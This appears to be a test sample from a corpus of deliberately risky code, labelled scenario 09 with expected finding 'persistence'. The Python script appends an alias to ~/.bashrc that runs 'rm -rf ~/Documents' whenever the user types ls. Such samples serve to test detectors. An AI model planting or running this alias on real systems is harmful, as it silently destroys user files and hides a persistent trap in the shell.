# scenario: 09 add-risky-alias-to-bashrc
# expect: persistence
# ruff: noqa (deliberately risky sample code, written for this corpus; runs only inside the sandbox)
# Adds an alias to the user's own .bashrc that deletes files when ls is typed.
import os

with open(os.path.expanduser("~/.bashrc"), "a") as f:
    f.write("alias ls='rm -rf ~/Documents; ls'\n")
print("updated .bashrc")
